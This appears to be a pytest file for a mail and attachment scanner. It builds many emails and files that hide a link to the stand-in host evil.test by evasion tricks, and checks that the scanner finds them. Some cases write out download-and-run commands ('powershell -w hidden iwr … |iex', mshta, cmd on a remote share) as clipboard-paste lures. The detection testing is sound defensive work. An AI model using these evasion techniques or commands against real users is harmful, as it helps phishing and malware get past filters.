"""What a red team of 2026 tries so that a link is not seen, or a command: in the mail, in pages, in files. Each way escaped once, or is in use."""

import base64
import io
import struct

import pikepdf
import pytest

from sekisho.testing.compound_files import compound
from sekisho.testing.hidings import ENCODED, MARK, PROGRAM, mail, opened, word, zipped

HOST = "evil.test"
URL = f"https://{HOST}/x"
RELATION = (
    '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="x" TargetMode="External"/>'
)
SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"


def alone(headers, body):
    head = f"From: a@example.test\r\nTo: b@example.test\r\nSubject: x\r\nMIME-Version: 1.0\r\n{headers}\r\n\r\n".encode()
    return head + (body if isinstance(body, bytes) else body.encode())


def html(body):
    return alone("Content-Type: text/html; charset=utf-8", body)


def linked(target):
    return html(f"<a href='{target}'>x</a>")


def text(body, parameters=""):
    return alone(f"Content-Type: text/plain; charset=utf-8{parameters}", body)


def parts(*given, kind="alternative"):
    body = "".join(f"--bb\r\nContent-Type: {head}\r\n\r\n{content}\r\n" for head, content in (("text/plain", "hello"), *given))
    return alone(f"Content-Type: multipart/{kind}; boundary=bb", f"{body}--bb--\r\n")


def encoded(kind, octets):
    return alone(f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64", base64.encodebytes(octets))


def page(body):
    return mail(body.encode(), "a.html", "text/html")


def script(code):
    return page(f"<script>{code}</script>")


def b64(code):
    return base64.b64encode(code.encode()).decode()


def escaped(sign, code):
    return "".join(f"{sign}{ord(letter):02x}" for letter in code)


def pdf(change):
    document = pikepdf.new()
    change(document, document.add_blank_page(page_size=(600, 800)).obj)
    target = io.BytesIO()
    document.save(target)
    return mail(target.getvalue(), "a.pdf")


def written(*lines):
    def change(document, page):
        font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.Contents = document.make_stream(b"BT /F1 10 Tf 20 700 Td 14 TL " + b" ".join(f"({line}) Tj T*".encode() for line in lines) + b" ET")

    return pdf(change)


def note(address):
    def change(_, page):
        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(address))
        page.Annots = pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)])

    return pdf(change)


def rich(code):
    return mail(b"{\\rtf1\\uc1{\\field{\\*\\fldinst " + code + b"}{\\fldrslt x}}}", "a.rtf")


def winmail(code):
    packed = struct.pack("<II", len(code) + 12, len(code)) + b"MELA" + bytes(4) + code
    value = struct.pack("<IHHII", 1, 0x102, 0x1009, 1, len(packed)) + packed + bytes(-len(packed) % 4)
    octets = b"\x78\x9f\x3e\x22\1\0\1" + struct.pack("<HHI", 0x9003, 6, len(value)) + value + b"\0\0"
    return mail(octets, "winmail.dat", "application/ms-tnef")


def calendar(line, name="a.ics", charset="utf-8"):
    return mail(f"BEGIN:VCALENDAR\r\n{line}\r\nEND:VCALENDAR".encode(charset), name)


def card(line):
    return mail(f"BEGIN:VCARD\r\n{line}\r\nEND:VCARD".encode(), "a.vcf")


def contact(value):
    return mail(
        f"<?xml version='1.0'?><c:contact xmlns:c='http://schemas.microsoft.com/Contact'><c:Value>{value}</c:Value></c:contact>".encode(), "a.contact"
    )


AMP = "<!doctype html><html amp4email><body>{}</body></html>"
LINKS = {
    "lines that go on without their space": text("see https://ev \r\nil.test/x \r\nok", "; format=flowed; delsp=yes"),
    "lines that do not go on": text("see https://evil.test/x \r\n.good.example", "; format=flowed; delsp=yes"),
    "AMP: a link": parts(("text/x-amp-html", AMP.format(f"<a href='{URL}'>x</a>")), ("text/html", "<p>hi</p>")),
    "AMP: a form": parts(("text/x-amp-html", AMP.format(f"<form action-xhr='{URL}'></form>")), ("text/html", "<p>hi</p>")),
    "an invitation within the mail": parts(("text/calendar; method=REQUEST", f"BEGIN:VCALENDAR\r\nX-MICROSOFT-MEETINGURL:{URL}\r\nEND:VCALENDAR")),
    "a base behind the link": html(f"<a href='/x'>y</a><base href='https://{HOST}/'>"),
    "a base in the body": html(f"<div><base href='https://{HOST}/'></div><a href='x'>y</a>"),
    "an address without a link, in pieces": html("<p>Please go to https://ev<b>il</b>.te<span>st/x</span> now</p>"),
    "an address without a link, in one of two texts": parts(("text/html", f"<p>go {URL}</p>")),
    "formulas": html(f"<math><mtext href='{URL}'>x</mtext></math>"),
    "a drawing in the mail": html(f"<svg><a xlink:href='{URL}'><text>x</text></a></svg>"),
    "an animation in the mail": html(f"<svg><a><animate attributeName=href values='{URL}'/><text>x</text></a></svg>"),
    "an animation of one step": html(f"<svg><a><set attributeName=href to='{URL}'/><text>x</text></a></svg>"),
    "a style with escapes": html('<div style="background:url(\\68ttps://evil.test/x)">x</div>'),
    "without scripts": html(f"<noscript><a href='{URL}'>x</a></noscript>"),
    "for Outlook alone": html(f"<!--[if mso]><v:roundrect xmlns:v='urn:schemas-microsoft-com:vml' href='{URL}'>x</v:roundrect><![endif]-->"),
    "pages in pages": html("<iframe srcdoc=\"<iframe srcdoc='&lt;a href=&quot;https://evil.test/x&quot;&gt;x&lt;/a&gt;'></iframe>\"></iframe>"),
    "a refresh without the word": html(f"<meta http-equiv=refresh content='0;{URL}'>"),
    "a refresh in quotes": html(f"<meta http-equiv=refresh content=\"0;'{URL}'\">"),
    "data for buttons": html(f'<script type="application/ld+json">{{"potentialAction":{{"target":"{URL}"}}}}</script><p>x</p>'),
    "turned round by a style": html(f"<p><span style='unicode-bidi:bidi-override;direction:rtl'>{URL[::-1]}</span></p>"),
    "a body elsewhere": parts((f'message/external-body; access-type=URL; URL="{URL}"', "Content-Type: text/html\r\n\r\nx"), kind="mixed"),
    "a file elsewhere": parts(('message/external-body; access-type=anon-ftp; site="evil.test"; name=x', "Content-Type: a/b\r\n\r\nx"), kind="mixed"),
    "UTF-7": alone("Content-Type: text/plain; charset=utf-7", f"go +{base64.b64encode(URL.encode('utf-16-be')).decode().rstrip('=')}- now"),
    "UTF-16 without a mark": encoded("text/html; charset=utf-16", f"<a href='{URL}'>x</a>".encode("utf-16-le")),
    "UTF-16 that calls itself UTF-8": encoded("text/html; charset=utf-8", f"<a href='{URL}'>x</a>".encode("utf-16")),
    "UTF-32": encoded("text/html; charset=utf-32", f"<a href='{URL}'>x</a>".encode("utf-32")),
    "rich text as the mail": parts(("text/rtf", '{\\rtf1{\\field{\\*\\fldinst{HYPERLINK "https://evil.test/x"}}{\\fldrslt x}}}')),
    # what is no page
    "a search": linked("search-ms:query=x&crumb=location:\\\\evil.test@SSL\\share&displayname=Docs"),
    "a search, escaped": linked("search-ms:query=x&crumb=location:%5C%5Cevil.test%40SSL%5Cshare"),
    "Word": linked(f"ms-word:ofe|u|{URL}"),
    "an installer": linked(f"ms-appinstaller:?source={URL}"),
    "a file on a server of the web": linked("\\\\evil.test@SSL@8443\\DavWWWRoot\\x"),
    "a moniker": linked("file:///\\\\evil.test\\test\\a.rtf!x"),
    "a file in a text": text("open \\\\evil.test\\share\\a.docx now"),
    "a file in a text, as an address": text("open file://evil.test/share/a.docx now"),
    "a file in a page": html("<p>open \\\\evil.test\\share\\a.docx now</p>"),
    "a telephone's intent": linked("intent://evil.test/x#Intent;scheme=https;package=com.android.chrome;end"),
    "Safari": linked("x-safari-https://evil.test/x"),
    "a calendar to subscribe to": linked("webcal://evil.test/x.ics"),
    # who leads on
    "Bing": linked(f"https://www.bing.com/ck/a?!&amp;p=1&amp;u=a1{b64(URL).rstrip('=')}&amp;ntb=1"),
    "Yahoo": linked("https://r.search.yahoo.com/_ylt=A;_ylu=B/RV=2/RE=1/RO=10/RU=https%3a%2f%2fevil.test%2fx/RK=2/RS=a-"),
    "Teams": linked(
        "https://statics.teams.cdn.office.net/evergreen-assets/safelinks/1/atp-safelinks.html?url=https%3A%2F%2Fevil.test%2Fx&amp;locale=en"
    ),
    "Cisco": linked("https://secure-web.cisco.com/1abcDEF/https%3A%2F%2Fevil.test%2Fx"),
    "digits": linked(f"https://good.example/r?u={URL.encode().hex()}"),
    "escaped three times": linked("https://good.example/r?u=https%25253A%25252F%25252Fevil.test%25252Fx"),
    "base64 of more than the address": linked(f"https://good.example/t?d={b64(URL + ' and more')}"),
    # pages
    "a page: short base64": script(f"location=atob('{b64(URL)}')"),
    "a page: base64 of a script": script(f"eval(atob('{b64(f'location={URL!r}')}'))"),
    "a page: numbers": script(f"location=String.fromCharCode({','.join(str(ord(letter)) for letter in URL)})"),
    "a page: digits": script(f"d('{URL.encode().hex()}')"),
    "a page: pieces": script("location='ht'+'tps:/'+'/ev'+'il.test/x'"),
    "a page: a list": script("location=['https:','','evil.test','x'].join('/')"),
    "a page: a list, backwards": script("location=['x','evil.test','','https:'].reverse().join('/')"),
    "a page: backwards": script(f"d('{URL[::-1]}')"),
    "a page: escapes of addresses": script(f"location=unescape('{escaped('%', URL)}')"),
    "a page: escapes of texts": script(f"location='{escaped(chr(92) + 'x', URL)}'"),
    "a page: a socket": script("new WebSocket('wss://evil.test/x')"),
    "a page: a refresh without the word": page(f"<meta http-equiv=refresh content='0;{URL}'>"),
    "a drawing": mail(f"{SVG}<a xlink:href='{URL}'><rect/></a></svg>".encode(), "a.svg", "image/svg+xml"),
    "a drawing with a page": mail(f"{SVG}<foreignObject><body><a href='{URL}'>x</a></body></foreignObject></svg>".encode(), "a.svg", "image/svg+xml"),
    "a drawing with entities": mail(
        f"<!DOCTYPE svg [<!ENTITY u 'https://ev'><!ENTITY v 'il.test/x'>]>{SVG}<a href='&u;&v;'/></svg>".encode(), "a.svg"
    ),
    "a drawing within the mail": alone(
        "Content-Type: multipart/related; boundary=bb",
        f"--bb\r\nContent-Type: text/html\r\n\r\n<img src=cid:a>\r\n--bb\r\nContent-Type: image/svg+xml\r\nContent-ID: <a>\r\n"
        f"Content-Disposition: inline\r\n\r\n{SVG}<a href='{URL}'/></svg>\r\n--bb--\r\n",
    ),
    "XML with a page's link": mail(f"<?xml version='1.0'?><r><h:a xmlns:h='http://www.w3.org/1999/xhtml' href='{URL}'>x</h:a></r>".encode(), "a.xml"),
    # files
    "a calendar: an alarm": calendar(f"BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:{URL}\r\nEND:VALARM"),
    "a calendar: wide": calendar(f"URL:{URL}", charset="utf-16"),
    "a card: a group": card(f"item1.URL;type=pref:{URL}"),
    "a card: quoted-printable": card("URL;ENCODING=QUOTED-PRINTABLE:https=3A//evil=\r\n.test/x"),
    "a contact": contact(URL),
    "a text without its type": mail(f"go to {URL}".encode(), "a.md"),
    "a text in an archive": mail(zipped({"readme.txt": f"go {URL}"}), "a.zip"),
    "a wide text in an archive": mail(zipped({"a.txt": f"go {URL}".encode("utf-16")}), "a.zip"),
    "a table in an archive": mail(zipped({"a.csv": f"a,{URL}\r\n"}), "a.zip"),
    "rich text: a word cut by groups": rich(b'{HYPER{}LINK "https://evil.test/x"}'),
    "rich text: cut deeply": rich(b'{\\b {H}{Y}{\\i PER}}{{L}INK "https://ev{\\b il}.test/x"}'),
    "rich text: escaped": rich(b"HYPER\\'4cINK \"https://evil.te\\'73t/x\""),
    "rich text: Unicode": rich(b'HYPER\\u76?INK "https://evil.te\\u115?t/x"'),
    "Outlook: a page in rich text": winmail(
        b'{\\rtf1\\ansi\\fromhtml1 {\\*\\htmltag84 <a href="https://evil.test/x">}\\htmlrtf {\\htmlrtf0 click{\\*\\htmltag92 </a>}}'
    ),
    "Outlook: words in rich text": winmail(b"{\\rtf1\\ansi\\fromtext Please go to https://evil.test/x now\\par}"),
    "PDF: written": written("Please visit https://evil.test/x now"),
    "PDF: written over two lines": written("visit https://evil.te", "st/x now"),
    "PDF: a long address": note(f"{URL}?{'a' * 6_000}"),
    "PDF: brackets within brackets": note(f"{URL}?(((a)))"),
    "Word: a base": mail(
        word(
            {
                "docProps/app.xml": f"<Properties><HyperlinkBase>https://{HOST}/</HyperlinkBase></Properties>",
                "word/_rels/document.xml.rels": f"<Relationships>{RELATION}</Relationships>",
            }
        ),
        "a.docx",
    ),
    "Word: a page inside": mail(word({"word/afchunk.html": f"<html><body><a href='{URL}'>x</a></body></html>"}), "a.docx"),
    "OneNote": mail(
        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
        + bytes(32)
        + bytes.fromhex("3fdd9a101b91f549a5d01791edc8aed8")
        + bytes(300)
        + f'\ufddfHYPERLINK "{URL}"click'.encode("utf-16-le"),
        "a.one",
    ),
    "Publisher": mail(compound({("Quill", "QuillSub", "CONTENTS"): b"x" * 200 + URL.encode("utf-16-le") + bytes(100)}), "a.pub"),
}


@pytest.mark.parametrize("case", LINKS)
def test_the_link_is_seen(case):
    message = opened(LINKS[case]).message
    assert any(link.host == HOST for link in message.links), (message.links, message.defects)


TOLD = {
    "a page that copies a command": (
        page(f"<button onclick=\"navigator.clipboard.writeText('powershell -w hidden iwr {URL}|iex')\">x"),
        "page_command",
    ),
    "a page that copies what it shows": (page(f"<textarea>mshta {URL}</textarea><script>document.execCommand('copy')</script>"), "page_command"),
    "a page that copies base64": (script(f"navigator.clipboard.writeText(atob('{b64('powershell -w hidden -enc AAAA')}'))"), "page_command"),
    "a contact whose site is a program": (contact("http.\\www.example.com.cpl\\a.exe"), "shortcut_runs"),
    "a sandbox": (mail(b"<Configuration><Command>cmd /c \\\\evil.test\\a.exe</Command></Configuration>", "a.wsb"), "shortcut_runs"),
    "a bundle of programs": (
        mail(zipped({"AppxMetadata/AppxBundleManifest.xml": "<Bundle/>", "a.msix": zipped({"AppxManifest.xml": "<Package/>"})}), "a.zip"),
        "appx",
    ),
    "an extension of a browser": (mail(b"Cr24\3\0\0\0\4\0\0\0abcd" + zipped({"manifest.json": "{}", "a.js": "x"}), "a.crx"), "zip"),
}


@pytest.mark.parametrize("case", TOLD)
def test_it_is_told(case):
    raw, expected = TOLD[case]
    told = [word for part in opened(raw).message.parts for word in (*(sign.code for sign in part.signs), *part.flags, *part.detected_types)]
    assert expected in told


def test_a_program_in_a_card():
    content = opened(card(f"KEY:data:application/x;base64,{ENCODED}"))
    assert any(leaf.octets == PROGRAM and MARK in leaf.octets for leaf in content.leaves)


def test_the_words_of_rich_text_are_words_of_the_mail():
    assert "Please log in" in opened(winmail(b"{\\rtf1\\ansi\\fromtext Please log in now\\par}")).visible_text
